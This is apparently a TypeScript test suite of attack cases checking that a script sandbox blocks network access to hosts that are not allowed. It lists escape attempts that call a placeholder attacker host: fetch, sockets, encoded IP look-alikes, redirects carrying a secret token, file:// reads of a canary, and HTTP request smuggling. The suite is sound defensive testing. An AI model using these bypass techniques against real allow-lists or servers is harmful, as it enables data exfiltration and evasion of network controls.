/**
 * Attacks on the network: hosts that are not allowed, by every road and under every name.
 *
 * @module
 */
import type { Attack } from "../attack.ts";

const ALLOWS = ["// @allow_net: $ALLOWEDHOST"];

/** A model that reaches out by means of the runtime. */
function reaching(name: string, statements: string): Attack {
  return { name, source: `${statements}\nthrow new Error("nothing came of it");` };
}

/** A model that reaches out by `http`, with the allowed server allowed. */
function requesting(name: string, statements: string, header: readonly string[] = ALLOWS): Attack {
  return {
    name,
    header,
    source:
      `import { http, secret } from "spoor";\n${statements}\nthrow new Error("nothing came of it");`,
  };
}

/** A model that requests one URL which is not the allowed one. */
function requestingUrl(name: string, url: string): Attack {
  return requesting(name, `await http.get(${JSON.stringify(url)}, { retries: 0, timeout: 2000 });`);
}

/** Requests of this attack that came to the allowed server under a host that is not allowed. */
function underOtherHost(
  allowedHost: (host: string) => boolean,
): NonNullable<Attack["escape"]> {
  return ({ allowed }, id) => {
    const found = allowed.find((request) =>
      request.path.includes(id) && !allowedHost(request.headers["host"] ?? "")
    );
    return found && `the allowed server was reached as ${found.headers["host"]}`;
  };
}

const asAllowed = underOtherHost((host) => host.startsWith("127.0.0.1:"));

export const networkAttacks: readonly Attack[] = [
  reaching("fetches from another host", `await fetch("$EVIL/$ID");`),
  reaching(
    "posts to another host by fetch",
    `await fetch("$EVIL/$ID", { method: "POST", body: "x" });`,
  ),
  reaching(
    "fetches without waiting",
    `fetch("$EVIL/$ID").catch(() => {}); await new Promise((d) => setTimeout(d, 100));`,
  ),
  reaching(
    "opens an XMLHttpRequest",
    `const x = new XMLHttpRequest(); x.open("GET", "$EVIL/$ID"); x.send(); await new Promise((d) => setTimeout(d, 100));`,
  ),
  reaching(
    "opens a WebSocket",
    `new WebSocket("ws://$EVILHOST/$ID"); await new Promise((d) => setTimeout(d, 100));`,
  ),
  reaching(
    "opens a WebSocketStream",
    `await new WebSocketStream("ws://$EVILHOST/$ID").opened;`,
  ),
  reaching(
    "opens an EventSource",
    `new EventSource("$EVIL/$ID"); await new Promise((d) => setTimeout(d, 100));`,
  ),
  reaching(
    "sends a beacon",
    `navigator.sendBeacon("$EVIL/$ID", "x"); await new Promise((d) => setTimeout(d, 100));`,
  ),
  reaching(
    "connects with Deno.connect",
    `const c = await Deno.connect({ hostname: "127.0.0.1", port: $EVILPORT }); await c.write(new TextEncoder().encode("GET /$ID HTTP/1.0\\r\\n\\r\\n"));`,
  ),
  reaching(
    "connects with node:net",
    `process.getBuiltinModule("net").connect($EVILPORT, "127.0.0.1").write("GET /$ID HTTP/1.0\\r\\n\\r\\n"); await new Promise((d) => setTimeout(d, 100));`,
  ),
  reaching("looks a name up", `await Deno.resolveDns("$ID.example.com", "A");`),
  reaching("listens on a port", `Deno.listen({ port: 0 }); await new Promise(() => {});`),
  reaching(
    "talks to other models by a BroadcastChannel",
    `new BroadcastChannel("spoor").postMessage({ type: "finished" });`,
  ),

  { ...requestingUrl("requests another host", "$EVIL/$ID"), says: /allow_net/ },
  requestingUrl("requests a look-alike with a user name", "http://$ALLOWEDHOST@$EVILHOST/$ID"),
  requestingUrl(
    "requests a look-alike with a password",
    "http://127.0.0.1:$ALLOWEDPORT@127.0.0.1:$EVILPORT/$ID",
  ),
  requestingUrl(
    "requests a look-alike below another domain",
    "http://127.0.0.1.$ID.invalid:$ALLOWEDPORT/",
  ),
  requestingUrl("requests the same host's other port", "http://127.0.0.1:$EVILPORT/$ID"),
  requestingUrl("requests a host with a dot at its end", "http://127.0.0.1.:$EVILPORT/$ID"),
  requestingUrl("requests a decimal address", "http://2130706433:$EVILPORT/$ID"),
  requestingUrl("requests a hexadecimal address", "http://0x7f000001:$EVILPORT/$ID"),
  requestingUrl("requests an octal address", "http://0177.0.0.1:$EVILPORT/$ID"),
  requestingUrl("requests a short address", "http://127.1:$EVILPORT/$ID"),
  requestingUrl("requests an address of version 6", "http://[::ffff:127.0.0.1]:$EVILPORT/$ID"),
  requestingUrl("requests the address of all interfaces", "http://0.0.0.0:$EVILPORT/$ID"),
  requestingUrl("requests a loopback name at another port", "http://localhost:$EVILPORT/$ID"),
  requestingUrl("requests full-width dots", "http://127。0。0。1:$EVILPORT/$ID"),
  requestingUrl("requests with backslashes", "http:\\\\$EVILHOST\\$ID"),
  requestingUrl("requests with tabs in the scheme", "ht\ttp://$EVILHOST/$ID"),
  requestingUrl("requests without a scheme", "//$EVILHOST/$ID"),
  requestingUrl("requests a file", "file://$VICTIM/canary.txt"),
  requestingUrl("requests a websocket URL", "ws://$EVILHOST/$ID"),
  {
    ...requestingUrl(
      "requests the allowed server by its DNS name",
      "http://localhost:$ALLOWEDPORT/$ID",
    ),
    escape: asAllowed,
  },
  {
    ...requestingUrl(
      "requests the allowed server by a mapped address",
      "http://[::ffff:127.0.0.1]:$ALLOWEDPORT/$ID",
    ),
    escape: asAllowed,
  },
  {
    name: "requests the allowed name's address",
    header: ["// @allow_net: localhost:$ALLOWEDPORT"],
    source:
      `import { http } from "spoor"; await http.get("http://127.0.0.1:$ALLOWEDPORT/$ID", { retries: 0 }); throw new Error("nothing came of it");`,
    escape: underOtherHost((host) => host.startsWith("localhost:")),
  },
  {
    name: "requests without any allowed host",
    source:
      `import { http } from "spoor"; await http.get("$ALLOWED/$ID"); throw new Error("nothing came of it");`,
    says: /allow_net/,
    escape: ({ allowed }, id) =>
      allowed.some((request) => request.path.includes(id)) ? "the request arrived" : undefined,
  },
  requestingUrl("is redirected to another host", "$ALLOWED/redirect?to=$EVIL/$ID"),
  requestingUrl("is redirected without a scheme", "$ALLOWED/redirect?to=//$EVILHOST/$ID"),
  requestingUrl(
    "is redirected to another host after some hops",
    "$ALLOWED/redirect?to=/redirect?to=$EVIL/$ID",
  ),
  requesting(
    "is redirected to another host with its body",
    `await http.post("$ALLOWED/redirect?status=307&to=$EVIL/$ID", { json: { a: 1 }, retries: 0 });`,
  ),
  requesting(
    "is redirected with its secret",
    `await http.get("$ALLOWED/redirect?to=$EVIL/$ID", { headers: { Authorization: secret("MINE_TOKEN") }, retries: 0 });`,
    [...ALLOWS, "// @secrets: MINE_TOKEN"],
  ),
  {
    ...requestingUrl(
      "is redirected to a DNS name of the allowed server",
      "$ALLOWED/redirect?to=http://localhost:$ALLOWEDPORT/$ID",
    ),
    escape: asAllowed,
  },
  {
    name: "is redirected to a file",
    header: ALLOWS,
    source: `import { http } from "spoor"; import { leak } from "../_lib/leak.ts";
      await leak((await http.get("$ALLOWED/redirect?to=file://$VICTIM/canary.txt", { retries: 0 })).text);`,
  },
  requesting(
    "names another host in its headers",
    `await http.get("$ALLOWED/absolute", { headers: { Host: "$EVILHOST", "X-Forwarded-Host": "$EVILHOST" }, retries: 0 }); await http.get("$EVIL/$ID", { retries: 0 });`,
  ),
  {
    ...requesting(
      "puts a second request into a header",
      `await http.get("$ALLOWED/plain", { headers: { "X-A": "1\\r\\n\\r\\nGET /smuggled_$ID HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" }, retries: 0 });`,
    ),
    escape: ({ allowed }, id) =>
      allowed.some((request) => request.path.includes(`smuggled_${id}`))
        ? "a second request arrived"
        : undefined,
  },
  {
    ...requesting(
      "puts a second request into its URL",
      `await http.get("$ALLOWED/plain HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET /smuggled_$ID", { retries: 0 });`,
    ),
    escape: ({ allowed }, id) =>
      allowed.some((request) => request.path === `/smuggled_${id}`)
        ? "a second request arrived"
        : undefined,
  },
  {
    ...requesting(
      "puts a second request into its body",
      `await http.post("$ALLOWED/plain", { body: "0\\r\\n\\r\\nGET /smuggled_$ID HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", headers: { "Transfer-Encoding": "chunked", "Content-Length": "0" }, retries: 0 });`,
    ),
    escape: ({ allowed }, id) =>
      allowed.some((request) => request.path.includes(`smuggled_${id}`))
        ? "a second request arrived"
        : undefined,
  },
  requesting(
    "gives a URL that changes while it is checked",
    `let n = 0; const url = { toString: () => n++ === 0 ? "$ALLOWED/plain" : "$EVIL/$ID", get href() { return this.toString(); } };
     for (let i = 0; i < 4; i++) await http.get(url as unknown as string, { retries: 0 });`,
  ),
  requesting(
    "gives a URL object that it changes afterwards",
    `const url = new URL("$ALLOWED/plain"); const going = http.get(url as unknown as string, { retries: 0 }); url.port = "$EVILPORT"; url.pathname = "/$ID"; await going;`,
  ),
];
